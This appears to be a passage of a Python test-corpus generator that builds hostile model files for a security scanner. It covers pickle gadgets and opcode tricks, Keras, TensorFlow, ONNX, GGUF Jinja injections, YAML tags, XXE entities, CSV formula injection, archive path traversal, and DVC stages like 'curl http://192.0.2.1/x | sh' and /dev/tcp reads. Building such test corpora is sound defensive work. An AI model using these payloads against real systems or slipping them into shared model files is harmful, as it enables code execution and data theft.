"""Hostile files by technique, carrier and protocol, after the facts of public advisories. Payloads would make a marker file, or open a way."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from typing import Any

import hostile_pickles
import joblib
import lz4.frame
import numpy as np
import py7zr
import zstandard

MARKER = "marker-of-the-corpus"
TOUCH = f"touch {MARKER}"


@dataclass(frozen=True)
class HostileFile:
    """A file with its technique (a row of the table in docs/scanning.md), its name and its bytes."""

    technique: str
    name: str
    data: bytes


class Runs:
    """Pickled as a call of something by its name."""

    def __init__(self, module: str = "os", name: str = "system", *arguments: object) -> None:
        self._call = (module, name, arguments or (TOUCH,))

    def __reduce__(self) -> tuple[object, ...]:
        module, name, arguments = self._call
        return getattr(__import__(module), name), arguments


def zipped(members: dict[str, bytes], how: int = zipfile.ZIP_STORED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", how) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return file.getvalue()


def sevenzipped(members: dict[str, bytes], **how: Any) -> bytes:
    file = io.BytesIO()
    with py7zr.SevenZipFile(file, "w", **how) as archive:
        for name, data in members.items():
            archive.writestr(data, name)
    return file.getvalue()


def tarred(members: dict[str, bytes], mode: str = "w") -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return file.getvalue()


def tar_of(info: tarfile.TarInfo) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        archive.addfile(info)
    return file.getvalue()


def _joblib(value: object, compress: object = 0) -> bytes:
    file = io.BytesIO()
    joblib.dump(value, file, compress=compress)
    return file.getvalue()


def _numpy(value: object, save: Callable[..., None]) -> bytes:
    file = io.BytesIO()
    save(file, np.array([value], dtype=object))
    return file.getvalue()


def _torch(value: object, *, legacy: bool) -> bytes:
    import torch

    file = io.BytesIO()
    torch.save({"weights": torch.zeros(300), "more": value}, file, _use_new_zipfile_serialization=not legacy)
    return file.getvalue()


CARRIERS: dict[str, Callable[[bytes], bytes]] = {
    "plain.pkl": bytes,
    "no-suffix": bytes,
    "weights.bin": bytes,
    "weights.dat": bytes,
    "picture.png": bytes,
    "table.csv": bytes,
    "model.safetensors": bytes,
    "config.json": bytes,
    "m.pkl.gz": gzip.compress,
    "m.gz": gzip.compress,
    "m.bz2": bz2.compress,
    "m.xz": lzma.compress,
    "m.lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
    "m.z": zlib.compress,
    "fast.z": lambda data: zlib.compress(data, 1),
    "m.zst": zstandard.compress,
    "m.pkl.lz4": lz4.frame.compress,
    "m.lz4": lambda data: lz4.frame.compress(data, content_checksum=True, block_linked=False),
    "twice.gz": lambda data: gzip.compress(bz2.compress(data)),
    "cut.pkl.gz": lambda data: gzip.compress(data + bytes(range(256)) * 400)[:-40],
    "old.joblib": lambda data: b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data),
    "a.npy": hostile_pickles.as_npy,
    "a.npz": hostile_pickles.as_npz,
    "t.pt": hostile_pickles.as_torch,
    "t.bin": hostile_pickles.as_torch,
    "t.ckpt": hostile_pickles.as_legacy_torch,
    "z.zip": lambda data: zipped({"deep/er/x": data}),
    "deflated.zip": lambda data: zipped({"x.pkl": data}, zipfile.ZIP_DEFLATED),
    "bzipped.zip": lambda data: zipped({"x.pkl": data}, zipfile.ZIP_BZIP2),
    "lzma.zip": lambda data: zipped({"x.pkl": data}, zipfile.ZIP_LZMA),
    "behind.zip": lambda data: b"GIF89a" + bytes(200) + zipped({"x.pkl": data}),
    "m.tar": lambda data: tarred({"x.pkl": data}),
    "model.tar.gz": lambda data: tarred({"x/y.pkl": data}, "w:gz"),
    "model.tar.xz": lambda data: tarred({"x/y.pkl": data}, "w:xz"),
    "m.nemo": lambda data: tarred({"model_weights.ckpt": hostile_pickles.as_torch(data)}),
    "x.7z": lambda data: sevenzipped({"deep/er/x": data}),
    "solid.7z": lambda data: sevenzipped({"a.txt": bytes(5000), "b.txt": b"", "c.pkl": data, "d.txt": bytes(9)}),
    "stored.7z": lambda data: sevenzipped({"x.pkl": data}, filters=[{"id": py7zr.FILTER_COPY}]),
    "weights.bin.7z": lambda data: sevenzipped({"x.zip": zipped({"c.7z": sevenzipped({"d.gz": gzip.compress(data)})})}),
    "broken-sum.7z": lambda data: _with_broken_sum_in_7z(data),
    "nested.zip": lambda data: zipped({"a.zip": zipped({"b.tar": tarred({"c.gz": gzip.compress(data)})})}),
    "wheel.whl": lambda data: zipped({"pkg/data/model.pkl": data}),
    "broken-sum.zip": lambda data: _with_broken_sum(zipped({"x.pkl": data})),
    "broken-sum.pt": lambda data: _with_broken_sum(hostile_pickles.as_torch(data)),
}


def _with_broken_sum(archive: bytes) -> bytes:
    """The CRC of the first member is wrong: Python's zipfile refuses it, other readers do not look."""
    at = archive.index(b"PK\x01\x02") + 16
    return archive[:at] + b"\x00\x00\x00\x01" + archive[at + 4 :]


def _with_broken_sum_in_7z(data: bytes) -> bytes:
    """The CRC of the member is wrong; the header itself is sound."""
    return changed_7z({"x.pkl": data}, zlib.crc32(data).to_bytes(4, "little"), b"\0\0\0\1")


def changed_7z(members: dict[str, bytes], old: bytes, new: bytes) -> bytes:
    """An archive in whose header some bytes are others, with the sums that fit."""
    file = io.BytesIO()
    with py7zr.SevenZipFile(file, "w", filters=[{"id": py7zr.FILTER_COPY}]) as archive:
        archive.set_encoded_header_mode(False)
        for name, data in members.items():
            archive.writestr(data, name)
    made = bytearray(file.getvalue())
    at = 32 + int.from_bytes(made[12:20], "little")
    assert old in made[at:]
    made[at:] = made[at:].replace(old, new)
    made[28:32] = zlib.crc32(made[at:]).to_bytes(4, "little")
    made[8:12] = zlib.crc32(made[12:32]).to_bytes(4, "little")
    return bytes(made)


def _text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def _opcode_tricks() -> dict[str, bytes]:
    argument = _text(TOUCH) + b"\x85"
    system = b"cposix\nsystem\n"
    call = system + argument + b"R"
    return {
        "after a list": b"\x80\x04]\x94(K\x01K\x02e0" + call + b".",
        "never popped": b"\x80\x02" + call + b"N.",
        "as a key": b"\x80\x02}" + call + b"K\x01s.",
        "through the memo": b"\x80\x04" + _text("posix") + b"\x94" + _text("system") + b"\x940h\x00h\x01\x93" + argument + b"R.",
        "through the memo of protocol 0": b"Vposix\np0\n0Vsystem\np1\n0g0\ng1\n\x93" + argument + b"R.",
        "memo overwritten": b"\x80\x04" + _text("math") + b"q\x00" + _text("posix") + b"q\x000" + b"0h\x00" + _text("system") + b"\x93" + argument + b"R.",
        "duplicated": b"\x80\x04" + _text("posix") + b"2" + b"0" + _text("system") + b"\x93" + argument + b"R.",
        "string opcode": b"S'posix'\nS'system'\n\x93" + argument + b"R.",
        "escaped string": b"S'po\\x73ix'\nS'sy\\163tem'\n\x93" + argument + b"R.",
        "escaped unicode": b"Vpo\\u0073ix\nVsystem\n\x93" + argument + b"R.",
        "binary strings": b"U\x05posixT\x06\x00\x00\x00system\x93" + argument + b"R.",
        "long unicode": b"\x80\x04\x8d\x05\x00\x00\x00\x00\x00\x00\x00posix\x8c\x06system\x93" + argument + b"R.",
        "inst": b"(" + _text(TOUCH) + b"iposix\nsystem\n.",
        "obj": b"(" + system + _text(TOUCH) + b"o.",
        "newobj": b"\x80\x02" + system + argument + b"\x81.",
        "newobj_ex": b"\x80\x04" + system + argument + b"}\x92.",
        "build": b"\x80\x02cmath\npi\n" + b"}" + _text("x") + call + b"sb.",
        "in a persistent id": b"\x80\x02" + call + b"Q.",
        "extension code": b"\x80\x02\x82\x01" + argument + b"R.",
        "extension code of two bytes": b"\x80\x02\x83\x01\x01" + argument + b"R.",
        "name computed": b"\x80\x04c_codecs\nencode\n" + _text("posix") + b"\x85R" + _text("system") + b"\x93" + argument + b"R.",
        "call of what it built": b"\x80\x02cfunctools\npartial\n" + system + b"\x85R)R.",
        "changes a class": b"\x80\x02ccollections\nOrderedDict\n}" + _text("__init__") + b"Nsb.",
        "state of its own": b"\x80\x02cargparse\nNamespace\n)\x81}" + _text("__setstate__") + b"cargparse\nNamespace\nsb.",
        "breaks after the call": b"\x80\x04" + call + b"\xff\xff\xff\xff",
        "cut after the call": b"\x80\x04" + call,
        "stack empty after the call": b"\x80\x02" + call + b"000000.",
        "second pickle": pickle.dumps([1, 2, 3]) + b"\x80\x02" + call + b".",
        "tenth pickle": pickle.dumps({"a": 1}) * 9 + b"\x80\x02" + call + b".",
        "pickle behind a plain one of protocol 0": pickle.dumps([1], 0) + call + b".",
        "frame that lies": b"\x80\x04\x95\x01\x00\x00\x00\x00\x00\x00\x00" + call + b".",
        "frame without end": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f" + call + b".",
        "protocol in the middle": call + b"\x80\x04.",
        "no announcement": call + b".",
        "long text before": b"\x80\x04" + _text("a" * 200_000) + b"0" + call + b".",
        "long text before, no announcement": b"(V" + b"a" * 200_000 + b"\n0" + call + b".",
        "many opcodes before": b"\x80\x02" + b"K\x01" * 150_000 + call + b".",
        "name with a dot": b"\x80\x04" + _text("posix") + _text("system.__call__") + b"\x93" + argument + b"R.",
        "builtins by the old name": b"c__builtin__\neval\n" + _text("1") + b"\x85R.",
        "whole module": b"\x80\x04" + _text("os") + _text("") + b"\x93.",
        "getattr of a module": b"\x80\x02cbuiltins\ngetattr\ncos\npath\n" + _text("os") + b"\x86R.",
        "getattr handed on": b"\x80\x02ccollections\ndefaultdict\ncbuiltins\ngetattr\n\x85R.",
        "getattr in a list handed on": b"\x80\x02](cbuiltins\ngetattr\ne.",
        "carriage return": b"\x80\x02cposix\r\nsystem\n" + argument + b"R.",
        "string with null": b"\x80\x04" + _text("posix\x00") + _text("system") + b"\x93" + argument + b"R.",
        "unknown gadget": b"\x80\x02csome_package.helpers\nload_plugin\n" + argument + b"R.",
        "unknown gadget, only named": b"\x80\x02csome_package.helpers\nload_plugin\n.",
        "storage called": b"\x80\x02ctorch\nFloatStorage\n" + argument + b"R.",
    }


def _keras(layer: dict[str, object]) -> dict[str, object]:
    first = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 2], "name": "in"}, "registered_name": None}
    layers = [first, layer]
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "trainable": True, "layers": layers}, "registered_name": None}


_LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA=", "defaults": None, "closure": None}}},
    "registered_name": None,
}


def _part(module: str, name: str, config: object, alias: str | None = None) -> dict[str, object]:
    return {"module": module, "class_name": name, "config": config, "registered_name": alias}


_KERAS_PARTS: dict[str, dict[str, object]] = {
    "lambda": _LAMBDA,
    "lambda-nested": _part("keras.layers", "TimeDistributed", {"layer": _LAMBDA}),
    "function-of-a-module": _part("keras.layers", "Dense", {"activation": _part("os", "function", "system", "system")}),
    "class-of-a-module": _part("subprocess", "Popen", {"args": ["touch", MARKER]}),
    "other-module-of-keras": _part("keras.src.utils.file_utils", "function", "get_file", "get_file"),
    "unsafe-setting": _part("keras.config", "function", "enable_unsafe_deserialization"),
    "torch-wrapper": _part("keras.layers", "TorchModuleWrapper", {"module": "gAR9lC4="}),
    "saved-model-layer": _part("keras.layers", "TFSMLayer", {"filepath": "/elsewhere/model"}),
    "jax-layer": _part("keras.layers", "JaxLayer", {"call_fn": {"class_name": "__lambda__", "config": {}}}),
    "vocabulary-file": _part("keras.layers", "StringLookup", {"vocabulary": "/etc/hostname"}),
    "typespec": {"class_name": "__typespec__", "config": [], "spec_name": "x"},
}


def _keras_archive(config: object, more: dict[str, bytes] | None = None) -> bytes:
    return zipped({"metadata.json": b"{}", "config.json": json.dumps(config).encode(), **(more or {})})


def _keras_h5(config: object) -> bytes:
    import h5py

    file = io.BytesIO()
    with h5py.File(file, "w") as made:
        made.attrs["model_config"] = json.dumps(config)
        made.create_group("model_weights")
    return file.getvalue()


def _varint(value: int) -> bytes:
    made = bytearray()
    while value >= 0x80:
        made.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*made, value])


def field(number: int, value: bytes | int) -> bytes:
    """A field of a protobuf message."""
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def tensorflow_graph(operator: str, *, in_function: bool = False, stream: str | None = None) -> bytes:
    """A SavedModel with one operator, in its graph or in a function of its library."""
    attribute = b"" if stream is None else field(5, field(1, b"output_stream") + field(2, field(2, stream.encode())))
    node = field(1, b"n") + field(2, operator.encode()) + attribute
    graph = field(2, field(1, field(1, field(1, b"f")) + field(3, node))) if in_function else field(1, node)
    return field(1, 1) + field(2, field(1, field(4, b"serve")) + field(2, graph))


def gguf(template: str) -> bytes:
    """A GGUF file with no tensors and a chat template."""

    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    entries = [("general.architecture", "llama"), ("tokenizer.chat_template", template)]
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(entries)) + b"".join(text(k) + struct.pack("<I", 8) + text(v) for k, v in entries)


def safetensors(header: object, data: bytes, length: int | None = None) -> bytes:
    """A safetensors file with any header."""
    encoded = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(encoded) if length is None else length) + encoded + data


def _tensor(start: int, end: int, shape: list[int], dtype: str = "U8") -> dict[str, object]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [start, end]}


def onnx_model(location: str | None = None, operator: str = "Relu", domain: str = "", *, in_branch: bool = False) -> bytes:
    import onnx
    from onnx import TensorProto, helper

    x, y = (helper.make_tensor_value_info(name, TensorProto.FLOAT, [1]) for name in "xy")
    weights = helper.make_tensor("w", TensorProto.FLOAT, [1], [1.0])
    if location is not None:
        weights.ClearField("float_data")
        weights.data_location = TensorProto.EXTERNAL
        weights.external_data.add(key="location", value=location)
    graph = helper.make_graph([helper.make_node(operator, ["x"], ["y"], domain=domain)], "g", [x], [y], [] if in_branch else [weights])
    if in_branch:
        branch = helper.make_graph([helper.make_node("Constant", [], ["y"], value=weights)], "b", [], [y])
        condition = helper.make_tensor_value_info("c", TensorProto.BOOL, [])
        graph = helper.make_graph([helper.make_node("If", ["c"], ["y"], then_branch=branch, else_branch=branch)], "g", [condition], [y])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18), *([helper.make_opsetid(domain, 1)] if domain else [])])
    del onnx
    return bytes(model.SerializeToString())


def r_object(*items: bytes) -> bytes:
    """An R object (XDR, version 2) of raw items."""
    return b"X\n" + struct.pack(">iii", 2, 0x40300, 0x20300) + b"".join(items)


def _r(kind: int, *more: int) -> bytes:
    return struct.pack(f">{1 + len(more)}i", kind, *more)


_R_SYMBOL = _r(1) + _r(9 | 1 << 18, 6) + b"system"
_R_TEXT = _r(16, 1) + _r(9 | 1 << 18, len(TOUCH)) + TOUCH.encode()
_R_CALL = _r(6) + _R_SYMBOL + _r(2) + _R_TEXT + _r(254)


def _symlink(name: str, target: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = tarfile.SYMTYPE, target
    return info


def _zip_link() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        info = zipfile.ZipInfo("link")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "../../../etc/cron.d")
    return file.getvalue()


def _zip_of_two() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(1))
        archive.writestr("archive/data.pkl", pickle.dumps(2))
    return file.getvalue()


def _torchscript(code: str) -> bytes:
    constants, data = b"\x80\x02).", b"\x80\x02c__torch__\nM\n)\x81}X\x08\x00\x00\x00trainingq\x00\x89sb."
    return zipped({"m/data.pkl": data, "m/constants.pkl": constants, "m/code/__torch__.py": code.encode(), "m/version": b"3\n"})


def _exported(target: str) -> bytes:
    program = {"graph_module": {"graph": {"nodes": [{"target": target, "inputs": [], "outputs": [], "metadata": {}}]}}}
    return zipped({"m/archive_format": b"pt2", "m/models/model.json": json.dumps(program).encode()})


def _skops(node: dict[str, object]) -> bytes:
    return zipped({"schema.json": json.dumps({"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {"a": node}}).encode()})


def _pandas_hdf() -> bytes:
    import h5py

    file = io.BytesIO()
    with h5py.File(file, "w") as made:
        made.attrs["PYTABLES_FORMAT_VERSION"] = np.bytes_(b"2.1")
        rows = made.create_dataset("frame", (1,), dtype=h5py.vlen_dtype(np.uint8))
        rows[0] = np.frombuffer(pickle.dumps(Runs(), 2), np.uint8)
        rows.attrs["PSEUDOATOM"] = np.bytes_(b"object")
    return file.getvalue()


def _hdf_attribute() -> bytes:
    import h5py

    file = io.BytesIO()
    with h5py.File(file, "w") as made:
        made.attrs["settings"] = np.void(pickle.dumps(Runs(), 2))
    return file.getvalue()


def _hdf_link() -> bytes:
    import h5py

    file = io.BytesIO()
    with h5py.File(file, "w") as made:
        made["x"] = h5py.ExternalLink("/etc/hostname", "/")
    return file.getvalue()


def _msgpack(value: bytes) -> bytes:
    import msgpack

    return bytes(msgpack.packb({"model": msgpack.ExtType(42, value)}))


_JINJA = {
    "class walk": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{% for m in messages %}{{ cycler.__init__.__globals__.os.popen('id').read() }}{% endfor %}",
    "attr filter": "{{ messages|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "lipsum": "{{ lipsum.__globals__['os'].system('true') }}",
    "import": "{% import 'os' as os %}{{ os }}",
}
_YAML = {
    "apply": "!!python/object/apply:os.system ['true']\n",
    "new": "model: !!python/object/new:subprocess.Popen [['true']]\n",
    "name": "f: !!python/name:os.system\n",
    "module": "m: !!python/module:antigravity\n",
    "object": "o: !!python/object:some.Class {}\n",
    "verbatim": "x: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
    "directive": "%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system ['true']\n",
}


@cache
def hostile_files() -> tuple[HostileFile, ...]:
    """The whole corpus."""
    return tuple(_all())


def _all() -> Iterator[HostileFile]:
    payloads = hostile_pickles.hostile_pickles(MARKER)
    for word, payload in payloads.items():
        yield HostileFile("pickle: gadgets", f"{word}.pkl", payload.data)
    for word, data in _opcode_tricks().items():
        yield HostileFile("pickle: opcodes", f"{word}.pkl", data)
        yield HostileFile("pickle: opcodes", f"{word}.bin", data)
    for protocol in range(6):
        for what in (("os", "system"), ("subprocess", "getoutput"), ("builtins", "eval", "1+1")):
            yield HostileFile("pickle: protocols", f"protocol-{protocol}-{what[1]}.pkl", pickle.dumps({"a": [Runs(*what)]}, protocol))
    for carrier, pack in CARRIERS.items():
        for word in ("os_system", "protocol_0", "getattr"):
            yield HostileFile("pickle: carriers", f"{word}-{carrier}", pack(payloads[word].data))
    for compress in (0, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3), ("lz4", 3)):
        word = compress[0] if isinstance(compress, tuple) else "plain"
        array = np.arange(5000.0)
        yield HostileFile("pickle: joblib", f"behind-an-array-{word}.joblib", _joblib([array, Runs()], compress))
        yield HostileFile("pickle: joblib", f"in-an-array-{word}.joblib", _joblib({"x": array, "o": np.array([1, Runs()], dtype=object)}, compress))
    for save, name in ((np.save, "o.npy"), (np.savez, "o.npz"), (np.savez_compressed, "c.npz")):
        yield HostileFile("pickle: numpy", name, _numpy(Runs(), save))
    for legacy in (False, True):
        yield HostileFile("pickle: torch", f"legacy-{legacy}.pt", _torch(Runs(), legacy=legacy))
    plain = pickle.dumps(Runs(), 2)
    yield HostileFile("pickle: torch", "oldest.pt", tarred({"storages": pickle.dumps(0, 2), "tensors": pickle.dumps(0, 2), "pickle": plain}))
    yield HostileFile("pickle: torch", "two-documents.pt", zipped({"a/data.pkl": pickle.dumps(1), "b/data.pkl": plain}))
    yield HostileFile("pickle: torch", "pickle-then-zip.bin", plain + zipped({"a/data.pkl": pickle.dumps(1)}))
    yield HostileFile("pickle: torch", "not-a-pickle.pt", zipped({"a/data.pkl": b"\xff\xfe" * 30}))
    yield HostileFile("pickle: not understood", "noise.pkl", bytes(range(255, 0, -1)))
    yield HostileFile("pickle: not understood", "cut.pkl", pickle.dumps(list(range(1000)))[:-20])
    yield HostileFile("pickle: not understood", "noise.joblib", b"hello, this is no pickle")

    for word, part in _KERAS_PARTS.items():
        yield HostileFile("keras", f"{word}.keras", _keras_archive(_keras(part)))
        yield HostileFile("keras", f"{word}.h5", _keras_h5(_keras(part)))
        yield HostileFile("keras", f"{word}.json", json.dumps(_keras(part)).encode())
    yield HostileFile("keras", "path.keras", _keras_archive(_keras({}), {"assets/../../x.txt": b"x"}))
    yield HostileFile("keras", "member.keras", _keras_archive(_keras({}), {"setup.py": b"x"}))
    yield HostileFile("keras", "pickle-inside.keras", _keras_archive(_keras({}), {"assets/x.pkl": plain}))
    for name, data in (("frame.h5", _pandas_hdf()), ("attribute.h5", _hdf_attribute()), ("link.h5", _hdf_link())):
        yield HostileFile("hdf5", name, data)

    for operator in ("ReadFile", "WriteFile", "MatchingFiles", "PyFunc", "EagerPyFunc", "TextLineDataset", "SqlDataset", "DebugIdentityV2"):
        yield HostileFile("tensorflow", "saved_model.pb", tensorflow_graph(operator))
        yield HostileFile("tensorflow", "saved_model.pb", tensorflow_graph(operator, in_function=True))
    yield HostileFile("tensorflow", "saved_model.pb", tensorflow_graph("PrintV2", stream="file:///tmp/x"))
    yield HostileFile("tensorflow", "saved_model.pb", b"\x08\x01\x12\xff\xff")
    yield HostileFile("tensorflow", "frozen.pb", field(1, field(1, b"n") + field(2, b"WriteFile")))
    metadata = field(1, field(2, 1) + field(3, b"root") + field(4, b"_tf_keras_layer") + field(5, json.dumps(_LAMBDA).encode()))
    yield HostileFile("tensorflow", "keras_metadata.pb", metadata)

    for call in ('torch.from_file("/etc/hostname", True, 10)', 'torch.save(x, "f")', 'ops.aten.from_file("f", True, 1)', 'torch.load("f")'):
        yield HostileFile("torchscript", "m.pt", _torchscript(f"class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    return {call}\n"))
    yield HostileFile("torchscript", "gadget.pt", zipped({"m/data.pkl": plain, "m/constants.pkl": b"\x80\x02).", "m/code/__torch__.py": b""}))
    for target in ("os.system", "torch.load", "builtins.eval", "torch.ops.load_library", "subprocess.run"):
        yield HostileFile("torch.export", "m.pt2", _exported(target))
    yield HostileFile("torch.export", "native.pt2", zipped({"m/archive_format": b"pt2", "m/data/aotinductor/model/x.so": b"\x7fELF"}))

    for place in ("../../etc/passwd", "/etc/passwd", "a/../../b", "C:\\x", "..\\x"):
        yield HostileFile("onnx", "m.onnx", onnx_model(place))
        yield HostileFile("onnx", "branch.onnx", onnx_model(place, in_branch=True))
    yield HostileFile("onnx", "python.onnx", onnx_model(operator="PyOp", domain="ai.onnx.contrib"))
    yield HostileFile("onnx", "noise.onnx", b"\x08\x07\x12\xff\xff\xff")

    for word, template in _JINJA.items():
        yield HostileFile("chat templates", f"{word}.gguf", gguf(template))
        yield HostileFile("chat templates", "tokenizer_config.json", json.dumps({"chat_template": template}).encode())
        yield HostileFile("chat templates", "chat_template.jinja", template.encode())
    yield HostileFile("gguf", "lengths.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 60))
    yield HostileFile("gguf", "counts.gguf", b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60))
    yield HostileFile("gguf", "version.gguf", b"GGUF" + struct.pack("<IQQ", 99, 0, 0))

    for word, made in {
        "overlap": safetensors({"a": _tensor(0, 4, [4]), "b": _tensor(2, 6, [4])}, bytes(6)),
        "gap": safetensors({"a": _tensor(0, 4, [4]), "b": _tensor(8, 12, [4])}, bytes(12)),
        "outside": safetensors({"a": _tensor(0, 400, [400])}, bytes(4)),
        "size": safetensors({"a": _tensor(0, 4, [1 << 40])}, bytes(4)),
        "behind": safetensors({"a": _tensor(0, 4, [4])}, bytes(4) + plain),
        "header-length": safetensors({"a": _tensor(0, 4, [4])}, bytes(4), 1 << 40),
        "no-json": safetensors(b"{not json}", bytes(4)),
        "twice": safetensors(b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}', bytes(1)),
        "type": safetensors({"a": _tensor(0, 4, [4], "OBJECT")}, bytes(4)),
        "empty": b"",
    }.items():
        if made:
            yield HostileFile("safetensors", f"{word}.safetensors", made)

    for loader, module, name in (
        ("ObjectNode", "os", "system"),
        ("FunctionNode", "builtins", "eval"),
        ("TypeNode", "subprocess", "Popen"),
        ("MethodNode", "builtins", "dict"),
        ("PartialNode", "functools", "partial"),
        ("OperatorFuncNode", "operator", "methodcaller"),
        ("DictNode", "os", "environ"),
        ("ObjectNode", "unknown_package", "Thing"),
    ):
        yield HostileFile("skops", f"{loader}-{name}.skops", _skops({"__class__": name, "__module__": module, "__loader__": loader}))

    pmml = '<?xml version="1.0"?>\n{}\n<PMML version="4.4"><Header/>&x;</PMML>'
    for word, head in {
        "file": '<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "address": '<!DOCTYPE p [<!ENTITY x PUBLIC "a" "http://192.0.2.1/x">]>',
        "parameter": '<!DOCTYPE p [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>',
        "doctype": '<!DOCTYPE p SYSTEM "http://192.0.2.1/x.dtd">',
        "grows": '<!DOCTYPE p [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY x "&b;&b;&b;">]>',
    }.items():
        yield HostileFile("pmml", f"{word}.pmml", pmml.format(head).encode())
    yield HostileFile("pmml", "utf16.pmml", pmml.format('<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>').encode("utf-16"))

    for word, made in {
        "promise": r_object(_r(5), _r(254), _R_CALL, _R_CALL),
        "in-a-list": r_object(_r(19, 2), _R_TEXT, _r(5), _r(254), _R_CALL, _R_CALL),
        "closure": r_object(_r(3), _r(253), _r(254), _R_CALL),
        "byte-code": r_object(_r(21), _r(1), _R_CALL),
        "call": r_object(_R_CALL),
        "cut": r_object(_r(19, 5), _R_TEXT),
    }.items():
        yield HostileFile("r", f"{word}.rds", gzip.compress(made))
        yield HostileFile("r", f"{word}-plain.rds", made)

    yield HostileFile("msgpack", "extension.msgpack", _msgpack(plain))
    yield HostileFile("msgpack", "cut.msgpack", _msgpack(b"x" * 50)[:-9])
    states = (
        {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [TOUCH]}]},
        {"py/object": "subprocess.Popen"},
        {"py/repr": "os/os.system('x')"},
        {"py/function": "os.system"},
        {"py/type": "builtins.eval"},
    )
    for key in states:
        yield HostileFile("jsonpickle", "state.json", json.dumps({"model": key}).encode())

    yield HostileFile("hugging face", "config.json", json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}).encode())
    yield HostileFile("hugging face", "tokenizer_config.json", json.dumps({"auto_map": {"AutoTokenizer": ["tok.T", None]}}).encode())
    yield HostileFile("hugging face", "config.json", json.dumps({"model_type": "x", "trust_remote_code": True}).encode())

    for word, text in _YAML.items():
        yield HostileFile("yaml", f"{word}.yaml", text.encode())
    yield HostileFile("yaml", "settings.txt", _YAML["apply"].encode())
    for target in ("os.system", "subprocess.Popen", "builtins.eval", "torch.load", "numpy.load", "shutil.rmtree"):
        yield HostileFile("hydra", "config.yaml", f"model:\n  _target_: {target}\n  x: 1\n".encode())
    yield HostileFile("hydra", "config.nemo", tarred({"model_config.yaml": b"encoder:\n  _target_: subprocess.run\n  args: [x]\n"}))
    yield HostileFile("dvc", "dvc.yaml", b"stages:\n  train:\n    cmd: curl http://192.0.2.1/x | sh\n")
    yield HostileFile("dvc", "dvc.yaml", b"stages:\n  train:\n    cmd: bash -c 'cat < /dev/tcp/192.0.2.1/80'\n")
    yield HostileFile("start-up files", "evil.pth", b"import os; os.system('true')\n")
    yield HostileFile("start-up files", "two.pth", b"/some/folder\nimport\tsys\n")
    yield HostileFile("start-up files", "kernel.json", json.dumps({"argv": ["bash", "-c", "true; exec python"], "language": "python"}).encode())
    yield HostileFile("start-up files", "kernel.json", json.dumps({"argv": ["python", "-c", "import x", "-f", "{connection_file}"]}).encode())
    for formula in ("=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|' /c calc'!A0", '=HYPERLINK("http://192.0.2.1?"&A1)', "=IMPORTXML(CONCAT(A1),1)", "=WEBSERVICE(A1)"):
        yield HostileFile("formulas", "table.csv", f"name,value\nx,1\ny,{formula}\n".encode())

    for word, made in {
        "up.zip": zipped({"../../x": b"x"}),
        "root.zip": zipped({"/etc/cron.d/x": b"x"}),
        "windows.zip": zipped({"..\\..\\x": b"x"}),
        "up.tar": tarred({"../x": b"x"}),
        "root.tar": tarred({"/etc/x": b"x"}),
        "link.tar": tar_of(_symlink("a", "/etc/passwd")),
        "link-up.tar": tar_of(_symlink("a/b", "../../x")),
        "link.zip": _zip_link(),
        "twice.zip": _zip_of_two(),
        "noise.7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40),
        "cut.7z": sevenzipped({"a.txt": bytes(range(256)) * 300})[:-60],
        "up.7z": changed_7z({"aa/x": b"x"}, "aa/x".encode("utf-16-le"), "../x".encode("utf-16-le")),
